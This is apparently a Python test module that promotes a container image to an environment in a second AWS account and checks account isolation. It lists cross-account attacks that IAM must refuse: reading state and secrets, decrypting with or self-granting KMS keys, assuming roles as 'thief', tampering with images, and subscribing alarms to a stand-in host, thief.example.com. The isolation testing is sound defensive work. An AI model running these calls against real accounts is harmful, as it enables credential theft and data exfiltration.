"""From one account to another: what runs here is promoted by its digest to an environment that lives elsewhere, and rolled back.

Nothing of the one account may be had with the keys of the other; images are the exception, and may only be pulled.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

from ops import layers
from ops.rehearsal import attackers, steps, use
from ops.rehearsal.attempts import FOR_ALL, Attempt, attempt
from ops.rehearsal.driver import FailedError, Rehearsal, digest, manifest
from ops.rehearsal.leftovers import left_over
from ops.rehearsal.progress import Bar
from ops.rehearsal.sign_in import Keys

# What is tried with the keys of one account on what the other has: each by the ARN, bucket or registry that names it.
ELSEWHERE = [
    Attempt("", "read the other account's state", "s3", "get_object", {"Bucket": "{bucket}", "Key": "account.tfstate"}),
    Attempt("", "write the other account's state", "s3", "put_object",
            {"Bucket": "{bucket}", "Key": "service/{environment}.tfstate", "Body": b"{}"}),
    Attempt("", "list the other account's states", "s3", "list_objects_v2", {"Bucket": "{bucket}"}),
    Attempt("", "lock the other account's state", "dynamodb", "put_item",
            {"TableName": "{table}", "Item": {"LockID": {"S": "x"}}}),
    Attempt("", "decrypt with the other account's key", "kms", "decrypt", {"KeyId": "{key}", "CiphertextBlob": "{ciphertext}"}),
    Attempt("", "grant itself the other account's key", "kms", "create_grant",
            {"KeyId": "{key}", "GranteePrincipal": "{own_role}", "Operations": ["Decrypt"]}),
    Attempt("", "become the other account's apply role", "sts", "assume_role",
            {"RoleArn": "{apply_role}", "RoleSessionName": "thief"}),
    Attempt("", "become the other account's plan role", "sts", "assume_role",
            {"RoleArn": "{plan_role}", "RoleSessionName": "thief"}),
    Attempt("", "become the other account's task", "sts", "assume_role",
            {"RoleArn": "{task_role}", "RoleSessionName": "thief"}),
    Attempt("", "become what starts the other account's tasks", "sts", "assume_role",
            {"RoleArn": "{execution_role}", "RoleSessionName": "thief"}),
    Attempt("", "subscribe to the other account's alarms", "sns", "subscribe",
            {"TopicArn": "{topic}", "Protocol": "https", "Endpoint": "https://thief.example.com"}),
    Attempt("", "invoke the other account's role manager", "lambda", "invoke", {"FunctionName": "{role_manager}"}),
    Attempt("", "read the other account's master password", "secretsmanager", "get_secret_value", {"SecretId": "{secret}"}),
]  # fmt: skip

# What roles of an account without images may not do to those of the project's.
IMAGES = [
    Attempt("", "push an image into the other account", "ecr", "put_image",
            {"registryId": "{registry}", "repositoryName": "{repository}", "imageManifest": "{manifest}", "imageTag": "thief"}),
    Attempt("", "delete the other account's images", "ecr", "batch_delete_image",
            {"registryId": "{registry}", "repositoryName": "{repository}", "imageIds": [{"imageTag": "rehearsal"}]}),
    Attempt("", "open the other account's repository", "ecr", "set_repository_policy",
            {"registryId": "{registry}", "repositoryName": "{repository}", "policyText": "{for_all}"}),
]  # fmt: skip
PULL = Attempt("", "pull an image that it does not run", "ecr", "batch_get_image",
               {"registryId": "{registry}", "repositoryName": "{repository}", "imageIds": [{"imageTag": "rehearsal"}]})  # fmt: skip


def promote(run: Rehearsal) -> None:
    """Promote to an environment of each other account, and end it there; nothing where there is one account."""
    for account, settings in run.project.accounts.items():
        if account != run.project.account and settings["environments"]:
            _promote(run, settings["environments"][0])


def _promote(run: Rehearsal, name: str) -> None:
    there = Rehearsal(run.render, name, run.progress)
    there.attach(run.directory.path, run.endpoint, run.variables)
    try:
        steps.zone(there)
        steps.incident_url(there)
        steps.up(there)
        newer = manifest(2)
        steps.push(run, newer)
        steps.deploy(there, digest(newer))
        _runs(there, digest(newer), "the promoted image")
        steps.deploy(there, digest(run.images[0]))
        _runs(there, digest(run.images[0]), "the image that was rolled back to")
        steps.status(there)
        steps.prove_all(there)
        _refused(run, there)
        _refused(there, run)
        steps.plan_again(there, layers.present(there.project))
        steps.down(there)
        _nothing_but_the_account(there)
    finally:
        there.detach()
        run.findings.attempts += there.findings.attempts
        run.findings.notes.append(
            f"{name} lives in account {there.project.account}: the image of {run.environment} was promoted to it, a newer one"
            " deployed and rolled back, and the environment deleted again."
        )


def _runs(there: Rehearsal, wanted: str, what: str) -> None:
    """See that the service is healthy with an image of the project's registry."""
    use.healthy(there)
    platform = there.platform()
    container = platform.task_definition(platform.service["taskDefinition"])["containerDefinitions"][0]
    address = f"{there.project.registry['host']}/{there.project.names['build_repository']}@{wanted}"
    if container["image"] != address:
        raise FailedError(f"{there.environment} should run {what}, {address}, and runs {container['image']}.")


def _refused(who: Rehearsal, whose: Rehearsal) -> None:
    """Let every role of one account try what is the other's."""
    with who.progress.step(f"try what is {whose.environment}'s with {who.environment}'s keys") as bar:
        facts = _facts(whose, who)
        keys = {name: found for name, found in _keys(who, bar) if found is not None}
        rows = [*ELSEWHERE, *([] if who.project.home else IMAGES)]
        made = []
        for name, with_keys in keys.items():
            pulls = [] if who.project.home or name in ("execution", "plan") else [PULL]
            for row in [*rows, *pulls]:
                found = attempt(row, with_keys, facts, who.project.region, who.endpoint)
                made += [found] if found is not None else []
        who.findings.attempts += made
        allowed = [f"{one.who}: {one.what} ({one.call}) — {one.because}" for one in made if not one.refused]
        if allowed or not made:
            raise FailedError("IAM did not refuse these:\n" + "\n".join(f"  {line}" for line in allowed))
        bar.detail = f"{len(made)} attempts, all refused"


def _keys(who: Rehearsal, bar: Bar) -> Iterator[tuple[str, Keys | None]]:
    played = steps.jobs(who)
    yield "apply", who.sign_in(bar, played.apply)
    yield "plan", who.sign_in(bar, played.plan)
    if who.project.home:
        yield "build", who.sign_in(bar, played.build)
    platform = who.platform()
    definition = platform.task_definition(who.project.names["service"])
    for name, key in (("task", "taskRoleArn"), ("execution", "executionRoleArn")):
        yield name, attackers.assumed(who, "ecs-tasks.amazonaws.com", definition[key], platform.service["clusterArn"])


def _facts(whose: Rehearsal, who: Rehearsal) -> Mapping[str, Any]:
    """What is there in the account that is tried on."""
    own, platform, iam, kms = whose.project, whose.platform(), whose.client("iam"), whose.client("kms")
    where = f"arn:{own.partition}:{{}}:{own.region}:{own.account}:{{}}"
    key = kms.describe_key(KeyId=own.names["network_key"])["KeyMetadata"]["Arn"]
    facts: dict[str, Any] = {
        "environment": own.environment,
        "bucket": own.names["state_bucket"],
        "key": key,
        "ciphertext": kms.encrypt(KeyId=key, Plaintext=b"x")["CiphertextBlob"],
        "topic": where.format("sns", own.names["alarms_topic"]),
        "registry": own.registry["account_id"],
        "repository": own.names["build_repository"],
        "manifest": manifest(9),
        "for_all": FOR_ALL,
        "own_role": who.client("iam").get_role(RoleName=who.project.names["apply_role"])["Role"]["Arn"],
    }
    for name in ("apply_role", "plan_role", "task_role", "execution_role"):
        facts[name] = iam.get_role(RoleName=own.names[name])["Role"]["Arn"]
    if own.settings["terraform_state_locks"] == "dynamodb":
        facts["table"] = where.format("dynamodb", f"table/{own.names['locks_table']}")
    if own.database:
        facts["role_manager"] = platform.role_manager["FunctionArn"]
        facts["secret"] = platform.cluster["MasterUserSecret"]["SecretArn"]
    return facts


def _nothing_but_the_account(there: Rehearsal) -> None:
    """See that what is left in the account is what it has once."""
    with there.progress.step(f"nothing of {there.environment} is left") as bar:
        names = there.project.names
        # The URL is typed once, and stays until make destroy.
        once = ["state_bucket", "state_log_bucket", "locks_table", "state_key", "incident_url_parameter"]
        if there.project.home:
            once += ["build_repository", "preview_repository", "build_repository_key"]
        shared = {names[name] for name in once}
        for alias in [names[name] for name in once if name.endswith("_key")]:
            shared.add(there.client("kms").describe_key(KeyId=alias)["KeyMetadata"]["KeyId"])
        others = [
            name for name in there.project.accounts[there.project.account]["environments"] if name != there.environment
        ]
        left = [
            line
            for line in left_over(there.client, there.project.app)
            if line.partition(" ")[2] not in shared
            and not any(part in line for part in ("github", "boundary", *others))
        ]
        if left:
            raise FailedError("This is left:\n" + "\n".join(f"  {line}" for line in left))
        bar.detail = "asked by name and by tag"
